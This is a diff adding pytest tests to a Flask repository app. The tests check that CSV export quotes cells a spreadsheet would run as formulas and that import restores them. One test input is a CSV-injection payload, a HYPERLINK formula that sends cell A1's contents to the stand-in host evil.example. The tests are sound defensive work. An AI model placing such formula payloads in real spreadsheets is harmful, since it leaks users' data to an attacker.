@@ -443,3 +443,50 @@ def test_remote_manifests_only_from_allowed_networks(
         " write one such as 10.0.0.0/8 or fd00::/8"
     )
     assert _count(app) == before
+
+
+def test_formula_cells_are_neutralised_and_read_back_unchanged(
+    app: Flask, runner: FlaskCliRunner, make_pages: Any, tmp_path: Path
+) -> None:
+    """A harvested record whose cells a spreadsheet would run as formulas (OWASP CSV
+    injection) is exported with a leading quote, and our import takes it off again."""
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+    folder = make_pages(count=1, name="hostile")
+    args = ["ingest", str(folder), "--collection", "doc", "--title", title, "--publish"]
+    assert runner.invoke(args=args).exit_code == 0
+    dc = {
+        "creator": [{"value": "+Nguyễn Du", "lang": ""}],
+        "subject": [{"value": "-2+3", "lang": ""}],
+        "identifier": [{"value": "@SUM(A1:A9)", "lang": ""}],
+        "publisher": [{"value": "'quoted already", "lang": ""}],
+    }
+    with app.app_context():
+        item = db.session.execute(db.select(Item)).scalar_one()
+        item.dc, item.year_start, item.year_end = dc, -111, -100
+        db.session.commit()
+    result = runner.invoke(args=["export-opendata", str(tmp_path / "out")])
+    assert result.exit_code == 0, result.output
+    path = tmp_path / "out" / "items.csv"
+    (row,) = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig")))
+    assert row["title_vi"] == "'" + title
+    assert (row["creator"], row["subject"]) == ("'+Nguyễn Du", "'-2+3")
+    assert (row["identifier"], row["year_start"]) == ("'@SUM(A1:A9)", "'-111")
+    assert row["publisher"] == "'quoted already"  # nothing a spreadsheet would run
+    assert row["id"] and not row["id"].startswith("'")
+
+    result = runner.invoke(args=["import", str(path), "--collection", "copy"])
+    assert result.exit_code == 0, result.output
+    (copy,) = _items(app, "copy")
+    assert copy.title["vi"] == title and (copy.year_start, copy.year_end) == (-111, -100)
+    assert {key: [v["value"] for v in copy.dc[key]] for key in dc} == {
+        key: [v["value"] for v in values] for key, values in dc.items()
+    }
+
+
+def test_spreadsheet_quoting_covers_every_formula_start() -> None:
+    from repository.services.linked_data import from_spreadsheet, spreadsheet_safe
+
+    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
+        assert spreadsheet_safe(text) == "'" + text and from_spreadsheet("'" + text) == text
+    for text in ("", "Truyện Kiều", "'x", "1-2", "a=b"):
+        assert spreadsheet_safe(text) == text and from_spreadsheet(text) == text
